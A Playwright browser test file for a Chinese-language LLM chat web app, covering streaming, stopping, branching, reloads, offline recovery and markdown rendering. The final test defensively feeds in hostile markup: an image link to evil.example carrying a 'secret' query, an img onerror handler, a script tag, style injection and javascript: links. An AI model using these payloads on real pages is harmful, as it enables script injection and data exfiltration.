"""Asking, stopping, branching, coming back."""

from __future__ import annotations

import re
from collections.abc import Callable

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.page.conftest import Open, Server, answer, ask

pytestmark = pytest.mark.browser


def messages_of(page: Page, server: Server) -> list[dict[str, object]]:
    name = page.url.rpartition("/")[2]
    found: list[dict[str, object]] = httpx.get(f"{server.url}/api/conversations/{name}").json()[
        "messages"
    ]
    return found


def test_asks_streams_and_names_the_conversation(open_page: Open, server: Server) -> None:
    page = open_page()
    ask(page, "[[slow 0.02]] 请问，如何做好时间管理？", wait=False)
    expect(page.locator("article.running")).to_be_visible()
    expect(page.locator("article.running")).to_have_count(0)
    assert "如何做好时间管理" in answer(page)
    assert re.search(r"/c/\w+$", page.url)
    assert page.locator("#composer").input_value() == ""
    stats = page.locator(".stats")
    expect(stats).to_contain_text("词元/秒")
    expect(stats).to_contain_text("首字")
    expect(stats).to_contain_text("免费")
    expect(page.locator("nav [aria-current=page] .title")).not_to_have_text("新对话")
    expect(page).to_have_title(re.compile(r".+ · 造化"))


def test_stop_keeps_the_text(open_page: Open, server: Server) -> None:
    page = open_page()
    ask(page, "[[words 400]] [[slow 0.05]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    page.get_by_role("button", name="停止回答").click()
    expect(page.locator("article.running")).to_have_count(0)
    expect(page.locator(".end")).to_contain_text("已停止")
    stored = messages_of(page, server)[-1]
    assert stored["status"] == "stopped"
    assert str(stored["content"]).split() == answer(page).split()


def test_escape_stops_too(open_page: Open) -> None:
    page = open_page()
    ask(page, "[[words 400]] [[slow 0.05]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    page.keyboard.press("Escape")
    expect(page.locator(".end")).to_contain_text("已停止")


def test_regenerate_makes_a_branch_and_branches_are_walked(open_page: Open) -> None:
    page = open_page()
    ask(page, "第一个问题")
    page.get_by_role("button", name="重新回答").click()
    branches = page.locator("article.assistant .branches")
    expect(branches).to_contain_text("2/2")
    page.get_by_role("button", name="上一个分支").click()
    expect(branches).to_contain_text("1/2")
    page.wait_for_timeout(300)
    page.reload()
    expect(branches).to_contain_text("1/2")


def test_edit_makes_a_branch_of_the_question(open_page: Open) -> None:
    page = open_page()
    ask(page, "原来的问题")
    page.locator("article.user").hover()
    page.get_by_role("button", name="编辑").click()
    page.locator(".edit textarea").fill("改过的问题")
    page.keyboard.press("Enter")
    expect(page.locator("article.user .branches")).to_contain_text("2/2")
    expect(page.locator("article.running")).to_have_count(0)
    assert "改过的问题" in answer(page)
    page.locator("article.user").get_by_role("button", name="上一个分支").click()
    expect(page.locator("article.user .bubble")).to_have_text("原来的问题")
    assert "原来的问题" in answer(page)


def test_arrow_up_edits_the_last_question(open_page: Open) -> None:
    page = open_page()
    ask(page, "上一个问题")
    page.locator("#composer").press("ArrowUp")
    expect(page.locator(".edit textarea")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#composer")).to_be_focused()


def test_enter_of_an_input_method_does_not_send(open_page: Open) -> None:
    page = open_page()
    box = page.locator("#composer")
    box.fill("时间")
    box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True})
    box.evaluate(
        "e => e.dispatchEvent(new KeyboardEvent('keydown',"
        " {key: 'Enter', keyCode: 229, bubbles: true}))"
    )
    page.keyboard.press("Shift+Enter")
    page.wait_for_timeout(300)
    expect(page.locator("article")).to_have_count(0)
    assert box.input_value() == "时间\n"


def test_draft_survives_a_reload_and_a_failed_send(open_page: Open) -> None:
    page = open_page()
    page.watch.forgive("Failed to load resource")
    page.locator("#composer").fill("还没写完")
    page.reload()
    expect(page.locator("#composer")).to_have_value("还没写完")
    page.route("**/api/conversations", lambda route: route.abort())
    page.locator("#composer").press("Enter")
    expect(page.locator(".notice.error")).to_contain_text("没有发出去")
    expect(page.locator("#composer")).to_have_value("还没写完")


def test_reload_in_the_middle_goes_on_without_loss_or_repetition(
    open_page: Open, server: Server
) -> None:
    page = open_page()
    ask(page, "[[words 120]] [[slow 0.03]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    page.wait_for_timeout(600)
    page.reload()
    expect(page.locator("article.running")).to_have_count(1)
    expect(page.locator("article.running")).to_have_count(0, timeout=20_000)
    stored = str(messages_of(page, server)[-1]["content"])
    assert len(stored.split()) == 120
    assert answer(page).split() == stored.split()


def test_a_second_tab_shows_what_the_first_did_when_it_comes_to_the_front(
    open_page: Open, server: Server
) -> None:
    page = open_page()
    ask(page, "[[say one]]")
    other = open_page(page.url.removeprefix(server.url), ready="article.assistant")
    ask(page, "[[say two]]")
    ask(page, "[[words 60]] [[slow 0.05]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    other.evaluate("dispatchEvent(new Event('focus'))")
    expect(other.locator("article.assistant")).to_have_count(3)
    expect(other.locator("article.running")).to_have_count(0)
    assert answer(other) == messages_of(page, server)[-1]["content"]


def test_lost_network_is_told_and_picked_up_again(open_page: Open, server: Server) -> None:
    page = open_page()
    page.watch.forgive("Failed to load resource", "ERR_")
    ask(page, "[[words 150]] [[slow 0.03]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    page.context.set_offline(True)
    page.evaluate("dispatchEvent(new Event('online'))")
    expect(page.locator(".offline")).to_be_visible()
    page.context.set_offline(False)
    expect(page.locator(".offline")).to_be_hidden(timeout=15_000)
    expect(page.locator("article.running")).to_have_count(0, timeout=20_000)
    assert answer(page).split() == str(messages_of(page, server)[-1]["content"]).split()


def test_killed_server_leaves_an_interrupted_answer(
    own_server: Callable[..., Server], open_page: Open
) -> None:
    own = own_server()
    page = open_page(at=own.url)
    page.watch.forgive("Failed to load resource", "ERR_")
    ask(page, "[[words 500]] [[slow 0.05]]", wait=False)
    expect(page.locator("article.running .markdown")).to_contain_text(" ")
    page.wait_for_timeout(700)
    own.kill()
    shown = answer(page)
    expect(page.locator(".offline")).to_be_visible()
    own.start()
    expect(page.locator(".end.bad")).to_contain_text("中途断了", timeout=20_000)
    assert answer(page).split()[: len(shown.split()) - 1] == shown.split()[:-1]
    page.get_by_role("button", name="重新回答").first.click()
    expect(page.locator("article.assistant .branches")).to_contain_text("2/2")


def test_engine_failure_is_told_with_ways_on(open_page: Open) -> None:
    page = open_page()
    ask(page, "[[fail after 3]] 一二三四五六")
    expect(page.locator(".end.bad")).to_contain_text("已显示的内容都保留着")
    expect(page.locator(".end.bad").get_by_role("button", name="继续")).to_be_visible()
    expect(page.locator(".end.bad").get_by_role("button", name="重新回答")).to_be_visible()
    ask(page, "[[fail]] 一")
    expect(page.locator(".end.bad").last).to_contain_text("没有完成")


def test_reading_of_the_prompt_is_shown(open_page: Open) -> None:
    page = open_page()
    ask(page, "[[prompt 2]] 长长的题目", wait=False)
    expect(page.locator("article.running progress")).to_be_visible()
    expect(page.locator("article.running")).to_contain_text("正在读题")
    expect(page.locator("article.running")).to_have_count(0)


def test_who_waits_for_others_is_told_how_long(
    own_server: Callable[..., Server], open_page: Open
) -> None:
    server = own_server("--slots", "1")
    first = open_page(at=server.url)
    ask(first, "[[slow 0.5]] [[words 100]]", wait=False)
    first.wait_for_timeout(2000)
    second = open_page(at=server.url, locale="en-GB")
    ask(second, "[[say Hello]]", wait=False)
    told = second.locator("article.running")
    expect(told).to_contain_text(re.compile(r"Waiting for its turn.*\d"))
    first.get_by_role("button", name="停止回答").click()
    expect(second.locator("article.assistant")).to_contain_text("Hello", timeout=20_000)


def test_messages_left_out_of_the_context_are_marked(open_page: Open) -> None:
    page = open_page()
    for _ in range(4):
        ask(page, "[[words 3500]]")
    note = page.locator("details.context").last
    expect(note).to_contain_text(re.compile(r"前 \d+ 条消息未送入模型"))
    note.locator("summary").click()
    expect(note).to_contain_text("仍然保存在这里")


def test_reasoning_is_kept_apart(open_page: Open) -> None:
    page = open_page()
    ask(page, "[[reason]] 为什么")
    expect(page.locator("details summary")).to_contain_text("思考过程")
    assert "The user wants" not in answer(page)


def test_markdown_is_drawn(open_page: Open) -> None:
    page = open_page()
    ask(page, "[[markdown]]")
    last = page.locator("article.assistant").last
    expect(last.locator("table td").first).to_have_text("Python")
    expect(last.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(last.locator("math").first).to_be_attached()
    expect(last.locator("li li")).to_have_text("nested")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    last.get_by_role("button", name="复制代码").click()
    assert "return x * x" in page.evaluate("navigator.clipboard.readText()")


def test_a_model_cannot_load_or_run_anything(open_page: Open) -> None:
    page = open_page()
    hostile = (
        "![x](https://evil.example/p.png?q=secret)"
        " <img src=https://evil.example/a onerror=alert(1)>"
        " <script>document.title='owned'</script> <b style='color:red'>b</b>"
        " <style>body{display:none}</style>"
        " [j](javascript:alert(1)) $\\href{javascript:alert(1)}{x}$"
    )
    ask(page, f"[[say {hostile}]]")
    page.wait_for_timeout(800)
    markdown = page.locator("article.assistant .markdown")
    expect(markdown.locator("img, script, [style], [href^=javascript]")).to_have_count(0)
    expect(markdown.locator("a.image-link")).to_have_attribute("rel", re.compile("noopener"))
    assert "owned" not in page.title()
